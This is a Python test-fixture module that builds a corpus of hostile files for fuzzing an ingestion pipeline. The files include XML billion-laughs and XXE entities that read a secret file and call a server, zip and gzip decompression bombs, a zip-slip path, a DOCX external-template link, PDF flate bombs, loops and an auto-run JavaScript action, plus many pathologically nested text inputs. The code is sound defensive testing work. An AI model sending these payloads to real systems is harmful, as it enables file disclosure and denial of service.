"""Files made to do harm: one of each trick, large enough to hurt whoever falls for it."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Callable, Iterator

from tests.knowledge.fuzz.corpus import ROOT

_LAUGHS = '<!DOCTYPE z [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {c} "{f"&{p};" * 10}">' for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)


def _entities(secret: str, url: str) -> Iterator[tuple[str, str]]:
    """External and multiplying entities, for every format that is XML."""
    outside = (
        f'<!DOCTYPE z [<!ENTITY i SYSTEM "file://{secret}"><!ENTITY n SYSTEM "{url}/entity">'
        f'<!ENTITY % p SYSTEM "{url}/parameter">%p;]>'
    )
    doctype = f'<!DOCTYPE z SYSTEM "{url}/doctype">'
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}"/>'
    for trick, head, body in (
        ("laughs", _LAUGHS + "]>", "&i;"),
        ("quadratic", f'<!DOCTYPE z [<!ENTITY i "{"x" * 50_000}">]>', "&i;" * 50_000),
        ("outside", outside, "&i;&n;"),
        ("doctype", doctype, "x"),
        ("include", "", include),
    ):
        yield (
            f"{trick}-rss.xml",
            (
                f"{head}<rss><channel><item><id>1</id><title>{body}</title>"
                "<price>1 EUR</price></item>"
                "</channel></rss>"
            ),
        )
        yield (
            f"{trick}-yml.xml",
            (
                f'{head}<yml_catalog><shop><offers><offer id="1"><name>{body}</name>'
                "<price>5</price>"
                "</offer></offers></shop></yml_catalog>"
            ),
        )
        yield f"{trick}-sitemap.xml", (f"{head}<urlset><url><loc>{url}/{body}</loc></url></urlset>")
        yield f"{trick}.html", f"{head}<html><body><p>Text {body}</p></body></html>"


def _docx(document: str | bytes, **parts: bytes) -> bytes:
    """The real Word file with another text, and further parts."""
    made = io.BytesIO()
    source = ROOT / "evals/shops/zielnik/dostawa.docx"
    with zipfile.ZipFile(source) as given, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as kept:
        for name in given.namelist():
            body = given.read(name)
            if name == "word/document.xml" and document:
                body = document.encode() if isinstance(document, str) else document
            if name not in parts:
                kept.writestr(name, body)
        for name, body in parts.items():
            kept.writestr(name, body)
    return made.getvalue()


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _word(body: str, head: str = "") -> bytes:
    return _docx(f"{head}<w:document {_W}><w:body>{body}</w:body></w:document>")


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _lying(raw: bytes) -> bytes:
    """A package whose parts say that they are small."""
    size = (30 * 2**20).to_bytes(4, "little")
    return raw.replace(size, (1_000).to_bytes(4, "little"))


def _nested(depth: int) -> bytes:
    raw = bytes(1_000_000)
    for _ in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as kept:
            for number in range(10):
                kept.writestr(f"word/embeddings/{number}.zip", raw)
        raw = made.getvalue()
    return _docx("", **{"word/embeddings/bomb.zip": raw})


def _word_files(secret: str, url: str) -> Iterator[tuple[str, bytes]]:
    big = 30 * 2**20
    yield "ratio.docx", _docx(b" " * big)
    yield "lying.docx", _lying(_docx(b" " * big))
    yield "sheet.docx", _docx("", **{"xl/worksheets/sheet1.xml": b"<row/>" * (40 * 2**20 // 6)})
    yield "nested.docx", _nested(4)
    yield "parts.docx", _docx("", **{f"word/p{n}.xml": b"<a/>" for n in range(6_000)})
    yield "twice.docx", _twice()
    yield "slip.docx", _docx("", **{"../../../../tmp/shopbell-slip.xml": b"<a/>"})
    yield "paragraphs.docx", _word(_paragraph("a") * 40_000)
    yield "line.docx", _word(_paragraph("Zwroty. " * 200_000))
    yield "tables.docx", _word("<w:tbl><w:tr><w:tc>" * 2_000 + _paragraph("x"))
    depth = 200
    yield (
        "tables-closed.docx",
        _word("<w:tbl><w:tr><w:tc>" * depth + _paragraph("x") + "</w:tc></w:tr></w:tbl>" * depth),
    )
    wide = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 3_000 + "</w:tr>"
    yield "wide.docx", _word(f"<w:tbl>{wide * 20}</w:tbl>" + _paragraph("x"))
    span = '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>' + _paragraph("x") + "</w:tc>"
    yield "span.docx", _word(f"<w:tbl><w:tr>{span}</w:tr><w:tr>{span}</w:tr></w:tbl>")
    yield "laughs.docx", _word(_paragraph("&i;"), _LAUGHS + "]>")
    yield (
        "outside.docx",
        _word(
            _paragraph("&i;&n;"),
            f'<!DOCTYPE z [<!ENTITY i SYSTEM "file://{secret}"><!ENTITY n SYSTEM "{url}/word">]>',
        ),
    )
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://x/attachedTemplate" TargetMode="External" '
        f'Target="{url}/template"/></Relationships>'
    )
    yield "template.docx", _docx("", **{"word/_rels/settings.xml.rels": relations.encode()})


def _twice() -> bytes:
    made = io.BytesIO(_docx(""))
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(made, "a") as kept:
            kept.writestr("word/document.xml", b"<a/>")
    return made.getvalue()


def pdf(*objects: bytes, root: bytes = b"1 0 R", more: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    trailer = b"trailer<</Size %d/Root %b%b>>\nstartxref\n%d\n%%%%EOF" % (
        count,
        root,
        more,
        len(out),
    )
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % count + table + trailer


def _stream(body: bytes, said: bytes = b"") -> bytes:
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(body), said, body)


def _printed(content: bytes, kids: bytes = b"[3 0 R]", count: int = 1, *more: bytes) -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids %b/Count %d>>" % (kids, count),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>"
        b"/XObject<</X 6 0 R>>>>>>",
        content if content.startswith(b"<<") else _stream(content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    )


def _pdf_files() -> Iterator[tuple[str, bytes]]:
    import zlib

    text = b"BT /F 12 Tf 50 700 Td (Returns within 30 days.) Tj ET"
    yield "plain.pdf", _printed(text)
    yield "no-text.pdf", _printed(b"0 0 100 100 re f")
    yield "loop.pdf", _printed(text, b"[2 0 R 3 0 R 2 0 R]", 3)
    yield "many-pages.pdf", _printed(text, b"[" + b"3 0 R " * 50_000 + b"]", 50_000)
    yield "lying-count.pdf", _printed(text, b"[3 0 R]", 2_000_000_000)
    form = _stream(
        b"/X Do " * 50 + text, b"/Type/XObject/Subtype/Form/Resources<</XObject<</X 6 0 R>>>>"
    )
    yield "form-loop.pdf", _printed(b"/X Do", b"[3 0 R]", 1, form)
    bomb = zlib.compress(bytes(200_000_000))
    yield "bomb.pdf", _printed(_stream(bomb, b"/Filter/FlateDecode"))
    twice = zlib.compress(zlib.compress(bytes(500_000_000)))
    yield "bomb-twice.pdf", _printed(_stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))
    yield "letters.pdf", _printed(b"BT /F 12 Tf 1 0 0 1 0 0 Tm " + b"(aa) Tj " * 200_000 + b"ET")
    yield "rules.pdf", _printed(text + b" 0 0 m 9 9 l S" * 100_000)
    yield (
        "deep.pdf",
        pdf(b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 100_000 + b"]" * 100_000 + b">>"),
    )
    yield "itself.pdf", pdf(b"1 0 R")
    yield (
        "locked.pdf",
        pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[]/Count 0>>",
            b"<</Filter/Standard/V 1/R 2/Length 40/P -4/O<"
            + b"41" * 32
            + b">/U<"
            + b"42" * 32
            + b">>>",
            more=b"/Encrypt 3 0 R/ID[<00><00>]",
        ),
    )
    script = b'<</S/JavaScript/JS(app.launchURL\\("http://127.0.0.1/"\\))>>'
    yield (
        "script.pdf",
        pdf(
            b"<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>",
            b"<</Type/Pages/Kids[]/Count 0>>",
            script,
        ),
    )


def _texts() -> Iterator[tuple[str, str | bytes]]:
    mega = 1_000_000
    for suffix in ("md", "html", "txt", "csv", "json", "xml"):
        units = [("a", "a"), ("asks", "Why? ")]
        units += [("words", "word "), ("rtl", "\u202eא")] if suffix == "html" else []
        for name, unit in units:
            yield f"line-{name}.{suffix}", unit * (mega // len(unit))
        yield f"lines.{suffix}", "\n" * mega
        yield f"emoji.{suffix}", "👩‍👩‍👧‍👦" * 40_000
        yield f"zalgo.{suffix}", "e" + "\u0301" * 300_000
        yield f"surrogates.{suffix}", b"Zwroty \xed\xa0\x80\xed\xb0\x80 30 dni. " * 5_000
        yield f"nul.{suffix}", b"Zwroty\x00 30 dni. " * 5_000
        yield f"bytes.{suffix}", bytes(range(256)) * 4_000
    for tag in (
        "div",
        "b",
        "span",
        "ul><li",
        "table><tr><td",
        "blockquote",
        "details",
        "dl><dd",
        "font",
    ):
        yield f"deep-{tag.split('>')[0]}.html", f"<h1>T</h1>{f'<{tag}>' * 100_000}deep<p>Text."
    yield "deep-md.md", "".join(f"{'  ' * (n % 400)}- item {n}\n" for n in range(20_000))
    yield "quotes.md", ">" * 100_000 + " x"
    yield "brackets.md", "[" * 100_000
    yield "links.md", "[a](" * 30_000
    yield "emphasis.md", "*a **b _c " * 10_000
    yield "backticks.md", "".join("`" * n + "x" for n in range(1_000))
    yield "references.md", "".join(f"[{n}]: /x\n" for n in range(30_000)) + "[1][2]" * 10_000
    yield "table.md", "|" * 100_000 + "\n" + "|-" * 50_000 + "|\n" + "|x" * 50_000
    yield "html.md", "<div>" * 50_000
    yield "front.md", "---\n" + "a: " * 100_000
    yield "comments.html", "<!-- " * 200_000
    yield "attributes.html", "<p " + "a=1 " * 200_000 + ">x"
    yield "attribute.html", f'<p class="{"menu " * 200_000}">x'
    yield "entities.html", "&amp" * 200_000 + "&#99999999999;" * 1_000
    yield "headings.html", "".join(f"<h{n % 6 + 1}>T{n}</h{n % 6 + 1}>" for n in range(30_000))
    yield "questions.html", "<h3>Why?</h3><p>So.</p>" * 20_000
    yield "bold.html", "<p><b>" * 20_000 + "Why?"
    yield "cells.html", "<table><tr>" + "<td>a" * 100_000
    yield (
        "span.html",
        '<table><tr><td colspan="999999999" rowspan="999999999">a<td>b<tr><td>c</table>',
    )
    yield "spans.html", "<table>" + '<tr><td rowspan="65534" colspan="1000">a' * 300 + "</table>"
    yield (
        "faq.html",
        (
            '<script type="application/ld+json">{"@type":"FAQPage","mainEntity":['
            + ",".join(
                f'{{"@type":"Question","name":"Why {n}?","acceptedAnswer":{{"text":"So {n}."}}}}'
                for n in range(20_000)
            )
            + "]}</script>"
        ),
    )
    yield "micro.html", '<div itemtype="https://schema.org/Question">' * 3_000 + "Why?"
    control = '<div role="button" aria-controls="p" class="x-title">'
    yield "controls.html", '<div id="p">a</div>' + control * 1_900 + "<b>a " * 30_000
    panel = '<div role="region" aria-labelledby="p" style="display:none">'
    yield "panels.html", '<a id="p" role="tab">a?</a>' + panel * 1_900 + "a " * 200_000
    yield "banners.html", "<div>cookie" * 3_000 + "<button>OK</button>"
    yield "columns.csv", ",".join(f"c{n}" for n in range(1_000_000)) + "\n" + "," * 999_999
    yield "asked-columns.csv", "question,answer" + ",x" * 1_000_000 + "\nWhy?,So.\n"
    yield "rows.csv", "question,answer\n" + "Why?,So.\n" * 60_000
    yield "quotes.csv", "question,answer\n" + '"a,b\n' * 50_000
    yield "quoted.csv", 'question,answer\n"' + "a,b\n" * 60_000
    yield (
        "goods.csv",
        "sku,name,price,group\n" + "".join(f"{n},Mug {n},5,g\n" for n in range(30_000)),
    )
    yield (
        "numbers.csv",
        "sku,name,price\n"
        + "".join(
            f"{n},Mug,{p}\n"
            for n, p in enumerate(
                (
                    "1e999999",
                    "-1e999999",
                    "9" * 100_000,
                    "NaN",
                    "Infinity",
                    "1" + ",0" * 50_000,
                    "٣٫٥",
                    "½",
                    "0x10",
                )
            )
        ),
    )
    yield "shopify.csv", "Handle,Title,Option1 Name,Variant Price\n" + "a,Mug,Size,5\n" * 30_000
    yield "woo.csv", "ID,Type,SKU,Name,Regular price,Parent\n" + "1,variation,A,Mug,5,A\n" * 30_000
    yield "deep.json", "[" * 100_000 + "]" * 100_000
    yield "deep-objects.json", '{"a":' * 100_000 + "1" + "}" * 100_000
    yield "deep-legal.json", '{"@type":"Product","isRelatedTo":' * 900 + "1" + "}" * 900
    yield (
        "numbers.json",
        '[{"sku":"A","name":"Mug","price":1e999999},{"sku":"B","name":"Cup","price":-0}]',
    )
    yield "digits.json", '[{"sku":"A","name":"Mug","price":' + "9" * 100_000 + "}]"
    yield (
        "digits-ld.html",
        (
            '<p>Text.</p><script type="application/ld+json">{"@type":"Product","name":"Mug",'
            '"offers":{"price":' + "9" * 100_000 + "}}</script>"
        ),
    )
    yield "wide.json", "[{" + ",".join(f'"k{n}":{n}' for n in range(100_000)) + "}]"
    yield "lines.jsonl", '{"question":"Why?","answer":"So."}\n' * 50_000
    yield "surrogates.json", '[{"question":"\\ud800?","answer":"\\udfff\\u0000"}]'
    yield "deep.xml", "<rss><channel>" + "<item>" * 100_000
    yield (
        "items.xml",
        "<rss><channel>"
        + ("<item><id>1</id><title>Mug</title><price>5 EUR</price></item>" * 20_000)
        + "</channel></rss>",
    )
    yield "attribute.xml", f'<rss a="{"x" * 11_000_000}"><channel/></rss>'
    yield (
        "parents.xml",
        (
            "<yml_catalog><shop><categories>"
            + "".join(f'<category id="{n}" parentId="{n + 1}">x</category>' for n in range(30_000))
            + '</categories><offers><offer id="1"><name>x</name><price>1</price>'
            "<categoryId>0</categoryId>"
            "</offer></offers></shop></yml_catalog>"
        ),
    )
    yield "cdata.xml", "<rss><channel><item><title><![CDATA[" + "<div>" * 100_000
    yield "maps-sitemap.xml", "<urlset>" + "<url><loc>https://s.pl/a</loc></url>" * 200_000
    yield "deep-sitemap.xml", "<sitemapindex>" + "<sitemap>" * 100_000
    yield "rules-robots.txt", "User-agent: *\n" + "Disallow: /*a*a*a*a*a*a*a*a*b$\n" * 20_000
    yield "stars-robots.txt", "User-agent: *\nDisallow: /" + "*a" * 900


def _packed() -> Iterator[tuple[str, bytes]]:
    raw = b"<urlset>" + bytes(300_000_000)
    yield "bomb-sitemap.xml.gz", gzip.compress(raw, 9)
    yield "twice-sitemap.xml.gz", gzip.compress(gzip.compress(raw, 9), 9)
    yield "cut-sitemap.xml.gz", gzip.compress(b"<urlset>" * 1_000)[:-20]


def hostile(secret: str, url: str) -> Iterator[tuple[str, Callable[[], bytes]]]:
    """All of them, made one at a time. `secret` is a file that must not be read, `url` a
    server that must not be asked."""
    for made in (
        _entities(secret, url),
        _texts(),
        _packed(),
        _pdf_files(),
        _word_files(secret, url),
    ):
        for name, body in made:
            yield (
                name,
                (lambda b=body: b if isinstance(b, bytes) else b.encode("utf-8", "surrogatepass")),
            )
